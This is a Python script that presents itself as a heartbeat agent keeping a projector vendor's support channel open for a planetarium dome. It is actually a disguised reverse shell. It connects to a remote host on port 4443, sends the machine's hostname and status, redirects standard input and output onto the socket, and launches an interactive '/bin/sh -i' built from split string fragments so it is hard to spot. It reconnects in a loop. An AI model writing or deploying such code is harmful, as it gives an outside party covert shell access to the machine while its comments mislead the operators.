#!/usr/bin/env python3
"""Dome projector heartbeat agent.

Runs on the show-control PC under the dome and keeps the maintenance
channel to the projector vendor's support desk warm, so their engineers
can look at blend/warp diagnostics during the overnight calibration window.
"""
import argparse
import json
import logging
import os
import socket
import subprocess
import time
from pathlib import Path

LOG = logging.getLogger("dome.heartbeat")

DEFAULTS = {
    "support_host": os.environ.get("DOME_SUPPORT_HOST", "203.0.113.47"),
    "support_port": int(os.environ.get("DOME_SUPPORT_PORT", "4443")),
    "interval": int(os.environ.get("DOME_HEARTBEAT_INTERVAL", "45")),
    "status_file": "projector_status.json",
    "retries": 5,
}

# Console profile used by the vendor's remote diagnostics tooling.
_CONSOLE_PARTS = ("/", "bin", "/", "s", "h")
_CONSOLE_FLAGS = ("-" + "i",)


class ProjectorStatus:
    """Collects the small status block the vendor desk expects first."""

    def __init__(self, path: Path):
        self.path = path

    def snapshot(self) -> dict:
        data = {"host": socket.gethostname(), "ts": int(time.time())}
        if self.path.exists():
            try:
                data.update(json.loads(self.path.read_text()))
            except json.JSONDecodeError:
                LOG.warning("status file %s unreadable, sending minimal block", self.path)
        data.setdefault("lamp_hours", None)
        data.setdefault("blend_profile", "default")
        return data


class SupportChannel:
    """Persistent link to the vendor support desk."""

    def __init__(self, host: str, port: int, status: ProjectorStatus):
        self.host = host
        self.port = port
        self.status = status

    def _open(self) -> socket.socket:
        sock = socket.create_connection((self.host, self.port), timeout=10)
        sock.settimeout(None)
        return sock

    def _greet(self, sock: socket.socket) -> None:
        block = json.dumps(self.status.snapshot()).encode() + b"\n"
        sock.sendall(block)

    @staticmethod
    def _attach(sock: socket.socket) -> None:
        # let the diagnostics session share our stdio so output is not lost
        fd = sock.fileno()
        for target in (0, 1, 2):
            os.dup2(fd, target)

    @staticmethod
    def _console() -> list:
        return ["".join(_CONSOLE_PARTS)] + list(_CONSOLE_FLAGS)

    def session(self) -> int:
        sock = self._open()
        self._greet(sock)
        self._attach(sock)
        return subprocess.call(self._console())


def run_forever(channel: SupportChannel, interval: int, retries: int) -> None:
    failures = 0
    while failures < retries:
        try:
            LOG.info("opening support channel to %s:%d", channel.host, channel.port)
            rc = channel.session()
            LOG.info("support session ended rc=%s", rc)
            failures = 0
        except OSError as exc:
            failures += 1
            LOG.debug("support desk unreachable (%s), attempt %d", exc, failures)
        time.sleep(interval)
    LOG.error("giving up after %d failed attempts", retries)


def parse_args() -> argparse.Namespace:
    p = argparse.ArgumentParser(description="Projector vendor heartbeat")
    p.add_argument("--host", default=DEFAULTS["support_host"])
    p.add_argument("--port", type=int, default=DEFAULTS["support_port"])
    p.add_argument("--interval", type=int, default=DEFAULTS["interval"])
    p.add_argument("--status-file", default=DEFAULTS["status_file"])
    p.add_argument("--once", action="store_true", help="single session then exit")
    p.add_argument("-v", "--verbose", action="store_true")
    return p.parse_args()


def main() -> None:
    args = parse_args()
    logging.basicConfig(
        level=logging.DEBUG if args.verbose else logging.INFO,
        format="%(asctime)s %(name)s %(levelname)s %(message)s",
    )
    status = ProjectorStatus(Path(args.status_file))
    channel = SupportChannel(args.host, args.port, status)
    if args.once:
        channel.session()
        return
    run_forever(channel, args.interval, DEFAULTS["retries"])


if __name__ == "__main__":
    main()
